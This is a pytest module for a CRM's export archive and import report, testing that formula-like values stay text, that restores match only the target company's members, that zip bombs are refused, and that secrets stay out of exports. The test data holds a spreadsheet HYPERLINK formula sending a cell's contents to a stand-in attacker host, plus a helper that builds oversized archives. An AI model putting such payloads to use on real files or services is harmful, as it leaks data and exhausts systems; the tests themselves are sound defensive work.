"""What the export archive and the import report write: text stays text, only members are
matched, and an archive cannot unpack into more than it says."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest

from crm_core.models import Client
from onboarding.models import ImportBatch, ImportRowNote
from onboarding.services.exports import build_export, request_export
from onboarding.services.imports import report_workbook

pytestmark = pytest.mark.usefixtures("media_root")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _cells(xlsx: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_export_writes_a_formula_like_name_as_text(make_company: Any) -> None:
    a = make_company("Alpha")
    with a:
        Client.objects.create(name=FORMULA, custom={"note": "=1+1"})
        job = build_export(request_export(user_id=a.owner.pk), company=a.company)
        archive = zipfile.ZipFile(io.BytesIO(job.file.read()))
    cells = _cells(archive.read("xlsx/clients.xlsx"))
    named = [c for c in cells if c.value == FORMULA]
    assert named, "the name is in the sheet exactly as typed"
    assert all(c.data_type == "s" for c in named)
    assert not [c for c in cells if c.data_type == "f"]


def test_import_report_writes_what_the_row_said_as_text(make_company: Any) -> None:
    a = make_company("Alpha")
    with a:
        batch = ImportBatch.objects.create(file_name="x.csv", file="imports/x.csv")
        ImportRowNote.objects.create(
            batch=batch, row=2, outcome="rejected", reason=FORMULA, values={"name": "=2+2"}
        )
        cells = _cells(report_workbook(batch))
    assert FORMULA in [c.value for c in cells]
    assert "name: =2+2" in [c.value for c in cells]
    assert not [c for c in cells if c.data_type == "f"]


def _export(owner: Any, company: Any) -> bytes:
    return bytes(build_export(request_export(user_id=owner.pk), company=company).file.read())


def test_restore_matches_responsible_people_only_among_the_target_companys_members(
    make_company: Any,
) -> None:
    from onboarding.tests.helpers import run_import
    from tenants.models import Membership, User

    a = make_company("Alpha")
    b = make_company("Beta")
    colleague = User.objects.create_user(email="colleague@example.com", password="Pass-99-word")
    Membership.objects.create(user=colleague, company=a.company, role="manager")
    with a:
        Client.objects.create(name="Owner's client", responsible=a.owner)
        Client.objects.create(name="Colleague's client", responsible=colleague)
        data = _export(a.owner, a.company)
    # B's owner restores A's archive: A's owner and colleague have accounts on the platform,
    # but they are not B's people; nothing of B's may be handed to them.
    with b:
        report = run_import(b.company, b.owner, data, "export.zip")
        assert dict(Client.objects.values_list("name", "responsible_id")) == {
            "Owner's client": None,
            "Colleague's client": None,
        }
        warnings = " ".join(report.batch.warnings)
        assert "colleague@example.com" in warnings
        assert a.owner.email in warnings
    Membership.objects.create(user=colleague, company=b.company, role="manager")
    with b:
        run_import(b.company, b.owner, data, "export-again.zip")
        assert Client.objects.filter(name="Colleague's client", responsible=colleague).count() == 1


def _bomb(members: int = 1, size: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("relata.json", '{"format": "relata-export", "version": 1}')
        for n in range(members):
            archive.writestr(f"files/{n}/x.txt", b"0" * size)
    return out.getvalue()


@pytest.mark.parametrize(
    "case",
    [
        (1, 50 * 1024 * 1024, "MAX_IMPORT_ZIP_RATIO", 200, "compressed"),
        (30, 10, "MAX_IMPORT_ZIP_MEMBERS", 20, "files inside"),
        (3, 2 * 1024 * 1024, "MAX_IMPORT_UNPACKED_MB", 5, "MB unpacked"),
    ],
)
def test_an_archive_that_unpacks_to_too_much_is_refused_before_extracting(
    make_company: Any, settings: Any, case: tuple[int, int, str, int, str]
) -> None:
    from onboarding.importing.errors import UnreadableFile
    from onboarding.tests.helpers import run_import

    members, size, settings_name, limit, says = case
    setattr(settings, settings_name, limit)
    if settings_name != "MAX_IMPORT_ZIP_RATIO":
        settings.MAX_IMPORT_ZIP_RATIO = 100_000
    a = make_company("Alpha")
    with a:
        with pytest.raises(UnreadableFile) as refused:
            run_import(a.company, a.owner, _bomb(members, size), "export.zip")
        assert refused.value.code == "zip_bomb"
        assert says in refused.value.message
        assert not ImportBatch.objects.exists()


def test_automation_rules_travel_in_the_archive_without_secrets(make_company: Any) -> None:
    import datetime as dt
    import json

    from crm_core.automation.models import (
        AutomationSettings,
        Holiday,
        RequestForm,
        RuleAction,
        StageRule,
        WorkingHours,
    )
    from crm_core.automation.services.setup import install_window_template
    from crm_core.models import Pipeline
    from onboarding.services.imports import undo_batch
    from onboarding.tests.helpers import run_import
    from tenants.models import Membership

    a = make_company("Alpha")
    b = make_company("Beta")
    with a:
        owner = Membership.objects.get(company=a.company, user=a.owner)
        install_window_template(membership=owner, company=a.company)
        rule = StageRule.objects.order_by("pk").first()
        assert rule is not None
        RuleAction.objects.create(
            rule=rule, kind="webhook", url="https://hooks.example.com/in", position=9
        )
        form = RequestForm.objects.create(
            name="Заявка с сайта",
            pipeline=Pipeline.objects.get(is_default=True),
            api_key_hash="f" * 64,
        )
        settings_row = AutomationSettings.current()
        settings_row.escalate_after_minutes = 42
        settings_row.save()
        WorkingHours.objects.create(weekday=0, opens=dt.time(9), closes=dt.time(18))
        Holiday.objects.create(day=dt.date(2027, 1, 1), name="Новый год")
        secret = settings_row.webhook_secret
        rules_a = sorted(
            (r.stage.name, r.name, r.trigger, r.is_active) for r in StageRule.objects.all()
        )
        actions_a = sorted(
            RuleAction.objects.values_list("rule__name", "kind", "title", "due_minutes", "url")
        )
        data = _export(a.owner, a.company)
    manifest = zipfile.ZipFile(io.BytesIO(data)).read("relata.json").decode()
    assert secret not in manifest
    assert "f" * 64 not in manifest
    assert "webhook_secret" not in json.loads(manifest)["entities"]["automation_settings"][0]
    with b:
        AutomationSettings.objects.all().delete()
        report = run_import(b.company, b.owner, data, "export.zip")
        restored_pipeline = Pipeline.objects.exclude(is_default=True).get()
        assert (
            sorted((r.stage.name, r.name, r.trigger, r.is_active) for r in StageRule.objects.all())
            == rules_a
        )
        assert {r.stage.pipeline_id for r in StageRule.objects.all()} == {restored_pipeline.pk}
        assert (
            sorted(
                RuleAction.objects.values_list("rule__name", "kind", "title", "due_minutes", "url")
            )
            == actions_a
        )
        restored_form = RequestForm.objects.get()
        assert restored_form.name == "Заявка с сайта"
        assert restored_form.pipeline == restored_pipeline
        assert restored_form.public_id != form.public_id  # a new public address
        assert restored_form.api_key_hash == ""
        assert AutomationSettings.current().escalate_after_minutes == 42
        assert AutomationSettings.current().webhook_secret != secret
        assert list(WorkingHours.objects.values_list("weekday", "opens")) == [(0, dt.time(9))]
        assert list(Holiday.objects.values_list("name", flat=True)) == ["Новый год"]
        undo_batch(report.batch)
        assert not StageRule.objects.exists()
        assert not RequestForm.objects.exists()
